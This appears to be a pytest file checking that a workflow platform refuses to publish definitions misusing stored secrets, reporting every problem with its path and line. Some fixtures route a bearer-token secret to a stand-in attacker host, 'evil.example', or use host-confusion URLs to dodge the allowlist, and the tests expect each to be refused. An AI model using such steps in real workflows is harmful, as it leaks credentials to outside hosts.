"""S08 and A07: what cannot work is not published, and all that stands in the way is told at once, with its place."""

import pytest

from auraos.security.access import Grant
from houses import EVERYTHING, HOUSE
from kept_definitions import ANN, published, workflow
from rooms import Room

SECRETS = "/api/v1/secrets"
DEFINITIONS = "/api/v1/definitions"
ASKING = """kind: workflow
name: orders
spec:
  steps:
    ask: {{type: http.request, with: {{url: "{url}", secret: {secret}}}}}
"""
ALL_WRONG = """kind: workflow
name: orders
spec:
  steps:
    first: {type: http.request, with: {url: "https://evil.example/x", secret: stock}}
    second: {type: http.request, with: {url: "https://stock.example/x", secret: never}}
    third: {type: call, with: {workflow: nobody}}
    fourth: {type: call, with: {workflow: old}}
    fifth: {type: nop}
    sixth: {type: crypto.hmac, with: {value: x, secret: stock}}
    seventh: {type: http.request, with: {url: "https://stock.example/x", secret: others}}
    eighth: {type: http.request, with: {url: "https://stock.example/x", secret: gone}}
    ninth: {type: http.request, with: {url: "https://stock.example/x", secret: over}}
"""


async def keep(room: Room, token: str, name: str = "stock", *, hosts=("stock.example",), **more) -> None:
    value = {"credential": {"kind": "bearer", "token": f"canary-of-{name}"}, "hosts": list(hosts)}
    value |= {"workflows": more.pop("workflows", [])}
    body = {"name": name, "value": value, **more}
    got = await room.ask("POST", SECRETS, body, token=token)
    assert got.status == 201, got.body


async def publish(room: Room, token: str, text: str):
    """Save a text as the draft of `orders`, and try to publish it."""
    made = await room.ask("POST", DEFINITIONS, {"text": text}, token=token)
    assert made.status == 201, made.body
    path = f"{DEFINITIONS}/workflow/orders"
    return await room.ask("POST", f"{path}/publish", {}, token=token, if_match=f'"{made.json["revision"]}"')


async def test_all_that_is_wrong_is_told_at_once_and_where(room):
    _, token = await room.house.signed_in("admin")
    now = room.house.clock.now()
    await keep(room, token)
    await keep(room, token, "others", workflows=["bills"])
    await keep(room, token, "gone")
    await room.ask("POST", f"{SECRETS}/gone/versions/1/revoke", {}, token=token)
    await keep(room, token, "over", ends_at=now + 1_000_000)
    room.house.clock.sleep(2)
    await room.desk.definitions.archive(ANN, await published(room.desk.definitions, workflow("old")))
    got = await publish(room, token, ALL_WRONG)
    assert (got.status, got.code) == (422, "definition-refused")
    told = [(each["path"], each["code"], each["line"]) for each in got.json["problems"]]
    assert told == [
        ("spec", "several-ends", 3),
        ("spec.steps.first.with.secret", "host-not-allowed", 5),
        ("spec.steps.second.with.secret", "unknown-secret", 6),
        ("spec.steps.third.with.workflow", "unknown-workflow", 7),
        ("spec.steps.fourth.with.workflow", "unknown-workflow", 8),
        ("spec.steps.fifth.type", "unknown-type", 9),
        ("spec.steps.sixth.with.secret", "host-not-allowed", 10),
        ("spec.steps.seventh.with.secret", "secret-not-for-workflow", 11),
        ("spec.steps.eighth.with.secret", "secret-revoked", 12),
        ("spec.steps.ninth.with.secret", "secret-expired", 13),
    ]


@pytest.mark.parametrize(
    ("url", "code"),
    [
        ("https://stock.example/{{ input }}", ""),
        ("https://stock.example{{ input }}", ""),
        ("{{ input }}", ""),
        ("https://stock.example.evil/{{ input }}", "host-not-allowed"),
        ("http://STOCK.example:8080/x", ""),
        ("https://evil.example/?x=stock.example", "host-not-allowed"),
    ],
)
async def test_where_a_secret_goes_is_checked_as_far_as_it_is_written_out(room, url, code):
    _, token = await room.house.signed_in("admin")
    await keep(room, token)
    got = await publish(room, token, ASKING.format(url=url, secret="stock"))
    found = [each["code"] for each in got.json.get("problems", []) if "secret" in each["path"]]
    assert found == ([code] if code else [])
    assert got.status == (422 if code else 200), got.body


async def test_a_check_says_what_publishing_would_refuse(room):
    _, token = await room.house.signed_in("admin")
    await keep(room, token)
    text = ASKING.format(url="https://evil.example/x", secret="stock")
    checked = await room.ask("POST", "/api/v1/check", {"text": text}, token=token)
    assert (checked.json["ok"], checked.json["problems"][0]["code"]) == (False, "host-not-allowed")


async def test_whoever_may_not_use_secrets_is_told_of_all_of_them_and_the_trail_of_the_attempt(room):
    _, token = await room.house.signed_in("admin")
    for name in ("stock", "other"):
        await keep(room, token, name)
    await keep(room, token, "mine")
    editor = await room.house.person()
    for narrow in ({"kind": "workflow"}, {"kind": "secret", "name": "mine"}):
        wish = Grant(role="editor", workspace="default", **narrow)
        await room.house.identity.access.grant(HOUSE, EVERYTHING, wish, "person", editor.id)
    theirs = await room.house.session(editor)
    text = ASKING.format(url="https://stock.example/x", secret="stock")
    text += '    more: {type: http.request, with: {url: "https://stock.example/x", secret: other}}\n'
    text += '    fine: {type: http.request, with: {url: "https://stock.example/x", secret: mine}}\n'
    made = await room.ask("POST", DEFINITIONS, {"text": text}, token=theirs)
    assert (made.status, made.code) == (403, "not-allowed")
    told = [(each["path"], each["code"], each["line"]) for each in made.json["problems"]]
    assert told == [
        ("spec.steps.ask.with.secret", "secret-not-yours", 5),
        ("spec.steps.more.with.secret", "secret-not-yours", 6),
    ]
    refusals = [entry for entry in await room.house.entries() if entry.outcome == "refused"]
    assert [entry.action for entry in refusals] == ["definitions.create"]
    draft = await room.desk.definitions.create(HOUSE, "default", text)
    path = f"{DEFINITIONS}/workflow/orders"
    got = await room.ask("POST", f"{path}/publish", {}, token=theirs, if_match=f'"{draft.revision}"')
    assert (got.status, len(got.json["problems"])) == (403, 2)
    checked = await room.ask("GET", f"{path}/check", token=theirs)
    assert checked.json["ok"] is False
    errors = [each["code"] for each in checked.json["problems"] if each["severity"] == "error"]
    assert errors == ["secret-not-yours"] * 2
